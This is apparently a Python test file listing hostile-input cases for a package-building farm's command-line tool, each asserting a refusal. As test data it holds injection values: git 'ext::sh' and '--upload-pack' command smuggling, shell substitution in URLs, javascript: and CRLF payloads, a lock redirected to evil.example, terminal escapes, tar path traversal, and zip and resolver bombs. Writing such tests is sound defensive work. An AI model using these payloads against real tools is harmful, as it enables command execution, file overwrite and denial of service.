        argv = [*_installs_case(lambda snap, s: None)(world, scratch), "--cache", str(scratch / "cache"), "--dry-run"]
        primed = world.root / "installs-primed-cache"  # one first run for every case (its key names no path)
        if not primed.exists():
            rc, out, err = _run(argv, {"MAMBA_FARM_CACHE": str(scratch / "farm")}, scratch)
            assert rc == 0, (rc, out[-2000:], err[-2000:])
            shutil.copytree(scratch / "cache", primed)
        else:
            shutil.copytree(primed, scratch / "cache")
        (entry,) = (scratch / "cache").glob("*.json")
        edit(entry, scratch)
        return [*argv, "--locks", str(scratch / "locks")]

    return make


def _lock_edited(entry: Path, scratch: Path, rehash: bool = False) -> None:
    import hashlib

    doc = json.loads(entry.read_text())
    doc["lock"] = doc["lock"].replace("https://files.pythonhosted.org/", "http://evil.example/")
    if rehash:  # the hash stored with it edited to match: the lock's URLs are checked against the listings too
        doc["lock_sha256"] = hashlib.sha256(doc["lock"].encode()).hexdigest()
    entry.write_text(json.dumps(doc))


def _entry_fifo(entry: Path, scratch: Path) -> None:
    entry.unlink()
    os.mkfifo(entry)


def _entry_dev_zero(entry: Path, scratch: Path) -> None:
    entry.unlink()
    entry.symlink_to("/dev/zero")


def _resolver_bomb(snap: Path, scratch: Path) -> None:
    """torch's METADATA requires ``bomb``, whose 3,000 versions each require another torch: a resolver weighs
    them one by one."""
    import hashlib

    meta = _torch_metadata(snap)
    meta.write_bytes(meta.read_bytes().replace(b"Requires-Dist:", b"Requires-Dist: bomb\nRequires-Dist:", 1))
    files = []
    for i in range(3000):
        name = f"bomb-{i}.0-py3-none-any.whl"
        sha = hashlib.sha256(name.encode()).hexdigest()
        files.append({"filename": name, "url": f"https://x.example/{name}", "sha256": sha, "size": 1000,
                      "requires_python": None, "upload_time": None, "yanked": False, "core_metadata": True})  # fmt: skip
        (snap / "metadata" / f"{sha}.METADATA").write_bytes(
            f"Metadata-Version: 2.1\nName: bomb\nVersion: {i}.0\nRequires-Dist: torch==0.0.{i}\n".encode())
    (snap / "pages" / "bomb.json").write_text(json.dumps(files))


def _recorded_from(listing: list[dict]):
    """``installs --record`` from an index on 127.0.0.1 whose torch listing is LISTING (the rest replayed)."""

    def make(world: World, scratch: Path):
        def edit(snap: Path, s: Path) -> None:
            (snap / "pages" / "torch.json").unlink()

        argv = _installs_case(edit)(world, scratch)
        folder = world.site / scratch.name / "simple" / "torch"
        folder.mkdir(parents=True)
        (folder / "index.html").write_bytes(_listing(listing))
        return {"argv": [*argv, "--record"], "env": {"PIP_INDEX_URL": f"{world.url}/{scratch.name}/simple",
                                                     "MAMBA_FARM_REQUEST_DEADLINE": "10"}}  # fmt: skip

    return make




CASES = [
    # --- sdists: unpacked by `recipe prepare` (the build's own step)
    Case("sdist-symlink-chain-cve-2025-4517", 11, "refused to unpack", _sdist_case(lambda tf, s, w: "chain")),
    Case("sdist-absolute-member", 11, "is absolute",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"), add(tf, str(s / "marker.txt"), data=b"x")))),
    Case("sdist-all-absolute", 11, "is absolute",
         _sdist_case(lambda tf, s, w: add(tf, str(s / "abs" / "marker.txt"), data=b"x"))),
    Case("sdist-dotdot-member", 11, "climbs out",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"), add(tf, "evil-1.0/../../marker.txt", data=b"x")))),
    Case("sdist-symlink-to-etc", 11, "outside the unpack folder",
         _sdist_case(lambda tf, s, w: add(tf, "evil-1.0/etc", tarfile.SYMTYPE, "/etc"))),
    Case("sdist-dotdot-symlink-then-write", 11, "refused to unpack",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/up", tarfile.SYMTYPE, "../.."),
                                       add(tf, "evil-1.0/up/marker.txt", data=b"x")))),
    Case("sdist-hardlink-out", 11, "hard link",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"),
                                       add(tf, "evil-1.0/h", tarfile.LNKTYPE, str(w.victim).lstrip("/"))))),
    Case("sdist-char-device", 11, "is a device",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"), add(tf, "evil-1.0/zero", tarfile.CHRTYPE)))),
    Case("sdist-fifo", 11, "is a FIFO",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"), add(tf, "evil-1.0/p", tarfile.FIFOTYPE)))),
    Case("sdist-replaces-a-file-by-a-link", 11, "comes twice",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"),
                                       add(tf, "evil-1.0/setup.py", tarfile.SYMTYPE, "../../marker.txt")))),
    Case("sdist-corrupt-gzip", 8, "not a readable .tar.gz", _sdist_case(_corrupt)),
    Case("sdist-corrupt-gzip-zlib-error", 8, "not a readable .tar.gz", _sdist_case(_corrupt_at(0.2))),
    Case("sdist-corrupt-gzip-partial-tree", 8, "not a readable .tar.gz", _sdist_case(_corrupt_at(0.5))),
    Case("sdist-not-gzip", 8, "not a readable .tar.gz", _sdist_case(lambda tf, s, w: os.urandom(4096))),
    Case("sdist-truncated", 8, "not a readable .tar.gz",
         _sdist_case(lambda tf, s, w: _gz(os.urandom(50000))[:3000])),
    Case("sdist-wrong-top-folder", 8, "not evil-1.0",
         _sdist_case(lambda tf, s, w: add(tf, "other-2.0/setup.py", data=b""))),
    Case("sdist-two-top-folders", 8, "one top-level folder",
         _sdist_case(lambda tf, s, w: (add(tf, "evil-1.0/setup.py"), add(tf, "second/setup.py")))),
    # --- fetching: `recipe fetch` through a page on 127.0.0.1
    Case("fetch_file_link", 9, "not an http(s) URL: ignored", _fetch_case(_file_link)),
    Case("fetch_endless", 8, "over the cap", _fetch_case(_endless), env={"MAMBA_FARM_MAX_SDIST_MB": "4"}),
    Case("fetch_dev_zero", 9, "not a regular file", _fetch_case(_dev_zero)),
    Case("fetch_json_list", 9, "was fetched from none", _fetch_case(_json_list)),
    # --- recipes: names that steer the farm's machinery, sizes
    *[Case(f"recipe-env-{n}", 2, "may not set or unset", _recipe_case(env=f'{n} = "/tmp/x"'),
           probe_shell=n in ("BASH_ENV",))
      for n in ("BASH_ENV", "ENV", "PATH", "LD_PRELOAD", "PIP_INDEX_URL", "PYTHONPATH", "FARM_TORCH_PIP_ARGS",
                "FARM_TORCH_REQ", "MAMBA_KERNEL_CACHE", "CCACHE_PREFIX", "UV_INDEX_URL", "HTTPS_PROXY")],
    Case("recipe-unset-PATH", 2, "may not set or unset", _recipe_case(unset='unset = ["PATH"]')),
    # --- recipes' other source kinds: a git URL git would run or read as an option, a moving or short commit
    Case("recipe-git-ext-transport", 2, "transport", _source_case(f'git = "ext::sh -c touch% /tmp/x"\ncommit = "{"a" * 40}"')),
    Case("recipe-git-option", 2, "option", _source_case(f'git = "--upload-pack=touch /tmp/x"\ncommit = "{"a" * 40}"')),
    Case("recipe-git-file-url", 2, "not an http(s) URL", _source_case(f'git = "file:///etc"\ncommit = "{"a" * 40}"')),
    Case("recipe-git-short-commit", 2, "not a full commit hash", _source_case('git = "https://example.org/e.git"\ncommit = "abc1234"')),
    Case("recipe-git-branch-commit", 2, "not a full commit hash", _source_case('git = "https://example.org/e.git"\ncommit = "main"')),
    Case("recipe-archive-file-url", 2, "not an http(s) URL", _source_case(f'url = "file:///dev/zero"\nsha256 = "{"a" * 64}"')),
    # --- a [canary]: the same rules as a git source, and a branch, a release and a distance of its own
    Case("recipe-canary-ext-transport", 2, "transport", _source_case(_canary_table("ext::sh -c touch% /tmp/x"))),
    Case("recipe-canary-file-url", 2, "not an http(s) URL", _source_case(_canary_table("file:///etc"))),
    Case("recipe-canary-branch-option", 2, "a branch name",
         _source_case(_canary_table("https://example.org/e.git", branch="--upload-pack=touch /tmp/x"))),
    Case("recipe-canary-branch-dotdot", 2, "not a branch name",
         _source_case(_canary_table("https://example.org/e.git", branch="a/../../b"))),
    Case("recipe-canary-short-commit", 2, "not a full commit hash",
         _source_case(_canary_table("https://example.org/e.git", commit="abc1234"))),
    Case("recipe-canary-release-local", 2, "canary.release: \"1.0+evil\" is not a version",
         _source_case(_canary_table("https://example.org/e.git", release="1.0+evil"))),
    Case("recipe-canary-release-empty", 2, "canary.release",
         _source_case(_canary_table("https://example.org/e.git", release=""))),
    Case("recipe-canary-distance-a-string", 2, "1 or more",
         _source_case(_canary_table("https://example.org/e.git", distance='"9"'))),
    # --- an archive URL and a git repository, served on 127.0.0.1
    Case("archive-wrong-hash", 8, "not the pinned one",
         _archive_case(lambda tf, w: add(tf, "evil-1.0/setup.py", data=b""), "fetch", pin_sha="b" * 64)),
    Case("archive-link-out-of-the-root", 11, "outside the unpack folder",
         _archive_case(lambda tf, w: (add(tf, "repo-1.0/setup.py"), add(tf, "repo-1.0/etc", tarfile.SYMTYPE, "/etc")))),
    Case("archive-dotdot-member", 11, "climbs out",
         _archive_case(lambda tf, w: (add(tf, "repo-1.0/setup.py"), add(tf, "repo-1.0/../../m.txt", data=b"x")))),
    Case("git-link-out-of-the-root", 11, "points outside the unpack folder", _git_case(_git_link_out)),
    Case("git-commit-not-in-the-repository", 8, "has no commit",
         _git_case(lambda w: (w / "setup.py").write_text(""), commit="c" * 40)),
    Case("git-info-refs-a-byte-a-second", 9, "the stall limit", _git_trickle,
         env={"MAMBA_FARM_GIT_STALL_SECONDS": "3"}),
    Case("sdist-patch-replaces-to-60-GB", 10, "over the cap", _patch_bomb),
    # --- the preflight (`recipe check`): what the package's setup.py prints and says it wrote
    Case("preflight-setup-py-controls", 18, "setup.py could not prepare its metadata", _preflight_case(_LOUD_SETUP)),
    Case("preflight-setup-py-not-utf8", 18, "setup.py could not prepare its metadata", _preflight_case(_BYTES_SETUP)),
    Case("preflight-metadata-a-fifo", 18, "not a regular file", _preflight_case(_FIFO_SETUP)),
    # its bounds: the run's time (MAMBA_FARM_PREFLIGHT_SECONDS), what it may print (16 MiB)
    Case("preflight-setup-py-sleeps", 18, "ran over 3 s", _preflight_case("import time\ntime.sleep(600)\n"),
         env={"MAMBA_FARM_PREFLIGHT_SECONDS": "3"}),
    Case("preflight-setup-py-prints-3-GiB", 18, "printed more than 16 MiB",
         _preflight_case("import sys\nb = b'x' * (1 << 20)\nfor _ in range(3072):\n    sys.stdout.buffer.write(b)\n")),
    Case("recipe-20-MB", 2, "more than a recipe's cap", _huge_recipe),
    Case("recipe-fifo", 2, "not a regular file", _fifo_recipe),
    Case("matrix-fifo", 2, "not a regular file", _fifo_matrix),
    # --- the index: --wheels folders and names
    Case("index-fifo", 0, "skipped, not a regular file",
         _index_case(lambda f, w: os.mkfifo(f / f"mamba_ssm-{V}+{LABEL}-cp312-cp312-linux_x86_64.whl"))),
    Case("index-dev-zero-link", 0, "skipped, not a regular file",
         _index_case(lambda f, w: (f / f"mamba_ssm-{V}+{LABEL}-cp312-cp312-linux_x86_64.whl").symlink_to("/dev/zero"))),
    Case("index-link-loop", 0, "skipped, cannot be read",
         _index_case(lambda f, w: (f / f"mamba_ssm-{V}+x-cp312-cp312-linux_x86_64.whl").symlink_to(
             f"mamba_ssm-{V}+x-cp312-cp312-linux_x86_64.whl"))),
    Case("index-folder-loop", 0, "index:", _index_case(lambda f, w: (f / "up").symlink_to(".."))),
    Case("index-fifo-sidecar", 2, "not a regular file",
         _index_case(lambda f, w: os.mkfifo(str(make_mamba_wheel(f, LABEL, "cp312")) + ".spec.json"))),
    # a wheel's evidence record (builder.verifying.evidence): read capped, depth-checked, typed, of these bytes
    Case("index-evidence-fifo", 2, "not a regular file",
         _index_case(lambda f, w: os.mkfifo(str(make_mamba_wheel(f, LABEL, "cp312")) + ".evidence.json"))),
    Case("index-evidence-dev-zero", 2, "not a regular file",
         _index_case(lambda f, w: Path(str(make_mamba_wheel(f, LABEL, "cp312")) + ".evidence.json").symlink_to("/dev/zero"))),
    Case("index-evidence-deep", 2, "nested deeper",
         _index_case(lambda f, w: _evidence_beside(f, "[" * 100_000 + "]" * 100_000))),
    Case("index-evidence-over-1-MiB", 2, "more than",
         _index_case(lambda f, w: _evidence_beside(f, '{"pad": "' + "x" * (2 << 20) + '"}'))),
    Case("index-evidence-other-bytes", 2, "the record is of sha256",
         _index_case(lambda f, w: _evidence_beside(f, None, sha256="0" * 64))),
    Case("index-evidence-gpu-not-a-list", 2, "'gpu'",
         _index_case(lambda f, w: _evidence_beside(f, None, gpu={"passed": True}))),
    Case("index-evidence-bidi-wheel", 2, "not mamba_ssm",
         _index_case(lambda f, w: _evidence_beside(f, None, wheel="mamba_ssm\u202e.whl"))),
    Case("index-metadata-name", 2, "METADATA says Name",
         _index_case(lambda f, w: _wheel_with(f, {f"{INFO}/METADATA": b"Metadata-Version: 2.1\nName: causal-conv1d\n"
                                                  b"Version: 0.3.0+" + LABEL.encode() + b"\n"}))),
    Case("index-dist-info-name", 2, ".dist-info/ does not name", _index_case(_dist_info)),
    Case("index-tag-uppercase", 2, "is not lowercase", _index_case(_renamed("linux_X86_64"))),
    Case("index-variant-root-leaves-out-a-wheel", 5, "cannot be put in the variant root", _index_case(_stable_junk_extension)),
    *[Case(f"index-tag-{label}", 2, "not a wheel filename pip makes", _index_case(_renamed(bad)))
      for label, bad in (("hash", "linux#x86_64"), ("question", "linux?x86_64"), ("space", "linux x86_64"),
                         ("rlo", "linux_x86_64\u202e"))],
    Case("index-base-url-javascript", 2, "is not an http(s) URL",
         _index_case(lambda f, w: ["--base-url", "javascript:alert(1)//"])),
    Case("index-base-url-quote", 2, "is not an http(s) URL",
         _index_case(lambda f, w: ["--base-url", "https://x.example/'onmouseover='alert(1)"])),
    Case("index-two-files-one-name", 19, "two different files named", _index_case(_two_named_alike)),
    Case("index-not-a-zip", 2, "not a readable zip",
         _index_case(lambda f, w: (f / f"mamba_ssm-{V}+{LABEL}-cp312-cp312-linux_x86_64.whl").write_bytes(b"PK no"))),
    # --- resolve: a hostile manifest
    Case("resolve-not-an-object", 2, "expected a JSON object", _resolve_case(lambda d: [d])),
    Case("resolve-schema-99", 2, "schema 99", _resolve_case(lambda d: {**d, "schema": 99})),
    Case("resolve-files-a-list", 2, "must be objects", _resolve_case(lambda d: {**d, "files": list(d["files"])})),
    Case("resolve-entry-missing-sha256", 2, ".sha256 is None", _resolve_case(lambda d: _first(d).pop("sha256") and d)),
    Case("resolve-bad-version", 2, "not a manifest", _resolve_case(lambda d: _first(d).update(version="x!y") or d)),
    Case("resolve-bad-key", 2, "not a manifest", _resolve_case(lambda d: _first(d).update(key="cu12-torchX") or d)),
    Case("resolve-variant-lists-a-ghost", 2, "lists files the manifest does not have",
         _resolve_case(lambda d: d["variants"][LABEL_KEY].append("ghost.whl") or d)),
    Case("resolve-base-url-javascript", 2, "is not an http(s) URL",
         _resolve_case(lambda d: {**d, "base_url": "javascript:alert(1)//"})),
    Case("resolve-base-url-shell", 2, "is not an http(s) URL",
         _resolve_case(lambda d: {**d, "base_url": "https://x.example/$(touch marker)"})),
    # --- resolve's manifest as bytes, a FIFO, a file:// FIFO
    Case("resolve-fifo-manifest", 2, "not a regular file", _resolve_raw(os.mkfifo)),
    Case("resolve-fifo-manifest-file-url", 2, "not a regular file", _resolve_fifo_url),
    Case("resolve-deep-nesting", 2, "nested deeper", _resolve_raw(lambda p: p.write_text("[" * 100000 + "]" * 100000))),
    Case("resolve-bad-utf8", 2, "not UTF-8", _resolve_raw(lambda p: p.write_bytes(b'{"schema": "\xff\xfe"}'))),
    Case("resolve-dev-zero", 2, "not a regular file", _resolve_raw(lambda p: p.symlink_to("/dev/zero"))),
    # --- drift: a hostile listing (the metadata cache is the case's own --cache)
    Case("drift-canary-tag-a-local-version", 9, "is not a release's version", _drift_canary_case("v1.0+evil")),
    Case("drift-canary-tag-not-a-version", 9, "no release tag", _drift_canary_case("nightly")),
    Case("drift-sha256-dotdot", 9, "is not 64 lowercase hex digits",
         _drift_case([_torch_file(hashes={"sha256": "../../../escape"})], b"Metadata-Version: 2.1\nName: torch\n")),
    Case("drift-sha256-absolute", 9, "is not 64 lowercase hex digits",
         _drift_case([_torch_file(hashes={"sha256": "/tmp/hostile-drift-escape"})], b"Name: torch\n")),
    Case("drift-wrong-types", 9, "expected str", _drift_case([_torch_file(filename=12)])),
    Case("drift-hashes-a-list", 9, "expected dict", _drift_case([_torch_file(hashes=["x"])])),
    Case("drift-deep-nesting", 9, "nested deeper", _drift_case('{"files": ' + "[" * 50000 + "]" * 50000 + "}")),
    Case("drift-bad-utf8", 9, "not UTF-8", _drift_case(b'{"files": "\xff\xfe"}')),
    Case("drift-redirect-to-ftp", 9, "not an http(s) URL: not followed",
         lambda world, scratch: {"argv": ["drift", "--index", f"{world.url}/to-ftp/simple", "--no-recipes", "--since",
                                          "2.15", "--cache", str(scratch / "cache")],
                                 "env": {"MAMBA_FARM_REQUEST_DEADLINE": "10"}}),
    Case("drift-url-crlf", 9, "not an http(s) URL", _drift_case([_torch_file(url="http://x.example/a\r\nSet-Cookie: 1")])),
    Case("drift-url-space", 9, "not an http(s) URL", _drift_case([_torch_file(url="http://x.example/a b.whl")])),
    Case("drift-arbitrary-equality-cuda", 9, "is not a CUDA version",
         _drift_case([_torch_file()], b"Metadata-Version: 2.1\nName: torch\nVersion: 2.15.0\n"
                     b"Requires-Dist: cuda-toolkit===13.0x.y\n")),
    Case("drift-escape-in-listing", 9, "expected str", _drift_case([_torch_file(filename=["\x1b[2J\x1b]0;pwned\x07"])])),
    # --- cache: hostile smoke-cache state
    Case("cache-fifo-complete", 0, "skipped, not a complete venv", _smoke_case(_complete("fifo"))),
    Case("cache-dev-zero-complete", 0, "skipped, not a complete venv", _smoke_case(_complete("dev-zero"))),
    Case("cache-escape-in-complete", 0, "torch venv(s)", _smoke_case(_complete("escape"))),
    Case("cache-prune-linked-slot", 0, "never pruned", _smoke_case(_linked_slot, "prune", "--all")),
    Case("cache-budget-400-digits", 2, "is not a size", _smoke_case(lambda s, w, c: None, "--budget", "9" * 400)),
    # --- the index: zips that lie
    Case("index-zip-3-GiB-directory", 2, "central directory claims", _index_case(_zip_patch(_huge_directory))),
    Case("index-zip-bad-crc", 2, "Bad CRC", _index_case(_zip_patch(_bad_crc))),
    Case("index-zip-encrypted-member", 2, "encrypted", _index_case(_zip_patch(_encrypted))),
    Case("index-zip-unsupported-compression", 2, "compression", _index_case(_zip_patch(_unsupported))),
    Case("index-metadata-over-16-MiB", 2, "unpacks to more than 16 MiB", _index_case(_huge_metadata)),
    # --- render (the matrix through the same reader as plan)
    Case("render-matrix-deep-nesting", 2, "nested too deeply", _matrix_nested),
    # --- rehearse: what reaches git, act and the work folder
    Case("rehearse-tag-is-an-option", 2, "not a tag or version", _rehearse("--release", "--push", "--tag=--list")),
    Case("rehearse-version-is-an-option", 2, "not a tag or version",
         _rehearse("--release", "--push", "--version", "--upload-pack=touch marker")),
    Case("rehearse-port-99999", 2, "not a TCP port", _rehearse("--port", "99999")),
    Case("rehearse-version-regex-escape", 2, "not a tag or version", _rehearse("--release", "--push", "--version", "2.3\\g<0>")),
    Case("rehearse-workflow-outside", 2, "not a workflow of", _rehearse("--workflow", "../../../etc/passwd")),
    Case("rehearse-workflow-missing", 2, "not a workflow of", _rehearse("--workflow", "nothere.yml")),
    Case("rehearse-work-a-file", 2, "is not a folder", _rehearse_work_file),
]  # fmt: skip
LABEL_KEY = "cu12-torch2.6-cxx11abiFALSE"


def _verify_case(make_wheel):
    """`reproduce --rebuild` of a hostile wheel: refused before anything is rebuilt (the id is a real one)."""

    def make(world: World, scratch: Path) -> list[str]:
        return ["reproduce", "--rebuild", "cpu-torch2.13-cxx11abiTRUE-cp311-linux_x86_64", *make_wheel(world, scratch)]

    return make


def _fifo_wheel(world: World, scratch: Path) -> list[str]:
    os.mkfifo(scratch / "w.whl")
    return [str(scratch / "w.whl")]


def _zero_link_wheel(world: World, scratch: Path) -> list[str]:
    (scratch / "w.whl").symlink_to("/dev/zero")
    return [str(scratch / "w.whl")]


def _junk_wheel(world: World, scratch: Path) -> list[str]:
    (scratch / "w.whl").write_bytes(b"PK\x03\x04 not a zip")
    return [str(scratch / "w.whl")]


def _dirty_escapes_wheel(world: World, scratch: Path) -> list[str]:
    """A wheel whose provenance says it was built from a dirty tree, its commit a terminal escape sequence."""
    from wheelmaker import make_wheel

    rec = {"source": {"kind": "checkout", "commit": "\x1b]0;owned\x07\x1b[2J\u202e" * 40, "dirty": True}}
    info = "demo-1.0.dist-info/farm-provenance.json"
    files = {"demo/__init__.py": b"", info: json.dumps(rec).encode()}
    return [str(make_wheel(scratch, "demo", "1.0", "cp311-cp311-linux_x86_64", files=files))]


CASES += [
    # --- reproduce: the wheel to compare, by path or URL
    Case("verify-dirty-provenance-escapes", 15, "with uncommitted changes", _verify_case(_dirty_escapes_wheel)),
    Case("verify-fifo", 2, "no such wheel file", _verify_case(_fifo_wheel)),
    Case("verify-dev-zero-link", 2, "no such wheel file", _verify_case(_zero_link_wheel)),
    Case("verify-not-a-zip", 2, "not a readable wheel", _verify_case(_junk_wheel)),
    Case("verify-url-without-sha256", 2, "needs --sha256", _verify_case(lambda w, s: [f"{w.url}/x.whl"])),
    Case("verify-url-file-scheme", 2, "no such wheel file", _verify_case(lambda w, s: ["file:///etc/passwd.whl"])),
    Case("verify-url-endless", 15, "not the", _verify_case(lambda w, s: [f"{w.url}/endless/x.whl", "--sha256", "0" * 64])),
    Case("verify-url-404", 15, "could not read", _verify_case(lambda w, s: [f"{w.url}/none.whl", "--sha256", "0" * 64])),
]  # fmt: skip


def _cost_case(fill, *, job: bool = False):
    """``release cost``: --jobs over a log-artifacts folder that ``fill(folder)`` fills (publish's reading of the
    build jobs' job-cost.json), or --job over a logs folder of build records (a build job's)."""

    def make(world: World, scratch: Path) -> list[str]:
        folder = scratch / "logs"
        folder.mkdir()
        fill(folder)
        if job:
            return ["release", "cost", "--job", "j", "--wall", "1", "--logs", str(folder)]
        return ["release", "cost", "--jobs", str(folder)]

    return make


def _cost_record(name: str, doc) -> callable:
    return lambda f: (f / name).write_text(doc if isinstance(doc, str) else json.dumps(doc))


CASES += [
    # --- release cost: the cost records the build jobs upload (publish reads them back) and the farm's own
    # --- evidence: harvest reads records beside wheels; tiers reads a ledger
    Case("evidence-harvest-fifo", 2, "not a regular file",
         _harvest_case(lambda f: os.mkfifo(str(make_mamba_wheel(f, LABEL, "cp312")) + ".evidence.json"))),
    Case("evidence-harvest-deep", 2, "nested deeper",
         _harvest_case(lambda f: _evidence_beside(f, "[" * 100_000 + "]" * 100_000))),
    Case("evidence-harvest-other-bytes", 2, "the record is of sha256",
         _harvest_case(lambda f: _evidence_beside(f, None, sha256="0" * 64))),
    Case("evidence-harvest-no-wheel", 2, "no wheel beside it",
         _harvest_case(lambda f: (f / "ghost.whl.evidence.json").write_text("{}"))),
    Case("evidence-ledger-not-json", 2, "not JSON", _ledger_case(b"{\"schema\": 1,")),
    Case("evidence-harvest-sha256-empty", 2, "'sha256' is not 64 hex digits",
         _harvest_case(lambda f: _evidence_beside(f, None, sha256=""))),
    Case("evidence-harvest-not-utf8", 2, "not an evidence record",
         _harvest_case(lambda f: Path(f"{make_mamba_wheel(f, LABEL, 'cp312')}.evidence.json").write_bytes(
             b'{"schema": 1, "wheel": "\xff"}'))),
    Case("evidence-harvest-schema-escapes", 2, "schema",
         _harvest_case(lambda f: _evidence_beside(f, None, schema="\x1b]52;c;ZWNobyBoaQ==\x07\u202e\r"))),
    Case("evidence-ledger-schema", 2, "schema 7", _ledger_case(b'{"schema": 7, "records": []}')),
    Case("evidence-ledger-records-an-object", 2, "'records'", _ledger_case(b'{"schema": 1, "records": {}}')),
    Case("evidence-ledger-over-16-MiB", 2, "more than", _ledger_case(b" " * (17 << 20))),
    # --- evidence harvest --hip: a HIP compile record (hip-compile --evidence), read as outside data
    Case("evidence-hip-fifo", 2, "not a regular file", _hip_case(lambda p: os.mkfifo(p))),
    Case("evidence-hip-dev-zero-link", 2, "not a regular file", _hip_case(lambda p: p.symlink_to("/dev/zero"))),
    Case("evidence-hip-deep", 2, "nested deeper", _hip_case(b"[" * 100_000 + b"]" * 100_000)),
    Case("evidence-hip-over-1-MiB", 2, "more than", _hip_case(b'{"pad": "' + b"x" * (2 << 20) + b'"}')),
    Case("evidence-hip-not-utf8", 2, "not a HIP compile record", _hip_case(b'{"schema": 1, "kind": "\xff"}')),
    Case("evidence-hip-linked", 2, "'linked' must be false", _hip_case(_hip_with(linked=True))),
    Case("evidence-hip-archs-an-object", 2, "'archs'", _hip_case(_hip_with(archs={"gfx90a": 1}))),
    Case("evidence-hip-archs-escapes", 2, "'archs' is not a list of gfx targets",
         _hip_case(_hip_with(archs=["gfx90a\x1b]52;c;ZWNobyBoaQ==\x07\u202e"]))),
    Case("evidence-hip-version-empty", 2, "'hip_version' is empty or not a version", _hip_case(_hip_with(hip_version=""))),
    Case("release-cost-fifo", 2, "not a regular file", _cost_case(lambda f: os.mkfifo(f / "job-cost.json"))),
    Case("release-cost-dev-zero-link", 2, "not a regular file",
         _cost_case(lambda f: (f / "job-cost.json").symlink_to("/dev/zero"))),
    Case("release-cost-huge", 2, "more than", _cost_case(_cost_record("job-cost.json", " " * (1 << 20)))),
    Case("release-cost-deep", 2, "nested deeper", _cost_case(_cost_record("job-cost.json", "[" * 20_000 + "]" * 20_000))),
    Case("release-cost-nan", 2, "not a number of seconds",
         _cost_case(_cost_record("job-cost.json", '{"job": "j", "wall_s": NaN, "cpu_s": 1}'))),
    Case("release-cost-table-injection", 2, "not a build or job id",
         _cost_case(_cost_record("job-cost.json", {"job": "x |\n| evil", "wall_s": 1, "cpu_s": 1}))),
    Case("release-cost-escape", 2, "not a build or job id",
         _cost_case(_cost_record("job-cost.json", {"job": "\x1b[2Jx", "wall_s": 1, "cpu_s": 1}))),
    Case("release-cost-build-record-fifo", 2, "not a regular file",
         _cost_case(lambda f: os.mkfifo(f / "b.cost.json"), job=True)),
    Case("release-cost-build-record-bad-cpu", 2, "not a number of seconds",
         _cost_case(_cost_record("b.cost.json", {"id": "b", "wall_s": 1, "cpu_s": -5}), job=True)),
]  # fmt: skip


# --------------------------------------------------------------------------- the last classes of hostile input
# One case per class and command (CLASSES below says which): fields of the wrong shape, fields that parse to
# nothing, markers the library refuses, bytes that are not text, terminal controls, links out of the farm's
# folders, and a run's budget of time and bytes (a drift against an index that would keep it reading).


def _variant_index(edit, *flags: str):
    """``resolve`` (text) of an index of one stable CPU wheel, its manifest's ``wheel_variants`` record edited."""

    def make(world: World, scratch: Path) -> list[str]:
        from builder.publishing.index import build_index

        make_mamba_wheel(scratch / "wheels", "cputorchstable", "cp310")
        build_index(scratch / "wheels", scratch / "idx")
        doc = json.loads((scratch / "idx" / "manifest.json").read_text())
        doc = edit(doc) or doc
        (scratch / "idx" / "manifest.json").write_text(json.dumps(doc))
        return ["resolve", "--torch", "2.12", "--python", "3.10", "--platform", "x86_64", "--index",
                str(scratch / "idx"), *flags]  # fmt: skip

    return make


def _relabel(label: str):
    def edit(doc):
        files = doc["wheel_variants"]["files"]
        for f in files.values():
            if f.get("label"):
                f["label"] = label

    return edit


def _provenance_wheel(rec):
    def make(world: World, scratch: Path) -> list[str]:
        from wheelmaker import make_wheel

        files = {"demo/__init__.py": b"", "demo-1.0.dist-info/farm-provenance.json": json.dumps(rec).encode()}
        return [str(make_wheel(scratch, "demo", "1.0", "cp311-cp311-linux_x86_64", files=files))]

    return make


def _meta(requires: bytes) -> bytes:
    return b"Metadata-Version: 2.1\nName: torch\nVersion: 2.15.0\nRequires-Dist: " + requires + b"\n"


def _deflate_bomb(world: World, scratch: Path) -> dict:
    """A torch wheel served with range reads, no PEP 658 file: its METADATA member is 24 MiB of empty
    stored deflate blocks that inflate to a few bytes (an output cap alone lets every byte be read)."""
    import struct
    import zlib

    meta = _meta(b"cuda-toolkit==13.0.2")
    body = b"\x00\x00\x00\xff\xff" * ((24 << 20) // 5) + zlib.compress(meta)[2:-4]
    name = b"torch-2.15.0.dist-info/METADATA"
    crc = zlib.crc32(meta)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), len(meta), len(name), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(body), len(meta),
                          len(name), 0, 0, 0, 0, 0, 0) + name  # fmt: skip
    head = local + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(head) + len(body), 0)
    folder = world.site / scratch.name / "simple" / "torch"
    folder.mkdir(parents=True)
    (folder / "torch-2.15.0.whl").write_bytes(head + body + central + end)
    size = (folder / "torch-2.15.0.whl").stat().st_size
    (folder / "index.html").write_bytes(_listing([_torch_file(**{"core-metadata": False, "size": size})]))
    return {"argv": ["drift", "--index", f"{world.url}/{scratch.name}/simple", "--no-recipes", "--since", "2.15",
                     "--cache", str(scratch / "cache")], "env": {"MAMBA_FARM_REQUEST_DEADLINE": "10"}}  # fmt: skip


def _with(make, *flags: str, **env: str):
    def wrapped(world: World, scratch: Path) -> dict:
        made = make(world, scratch)
        return {"argv": [*made["argv"], *flags], "env": {**made["env"], **env}}

    return wrapped


def _outside_complete(smoke: Path, world: World, scratch: Path) -> None:
    """``.complete`` a link to a file outside the cache: its content is never read, nor printed."""
    secret = world.root / f"secret-{scratch.name}.txt"
    secret.write_text("torch==SECRET-OUTSIDE-THE-CACHE\n")
    done = smoke / "cp311-torch2.14.1" / "torch-envs" / "py3.11.1-0123456789" / ".complete"
    done.unlink()
    done.symlink_to(secret)


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\r\u202efdp.exe"

CASES += [
    # --- shapes: a list or a string where an object is meant
    Case("resolve-wheel-variants-a-list", 2, "wheel_variants: expected dict", _variant_index(lambda d: {**d, "wheel_variants": ["x"]})),
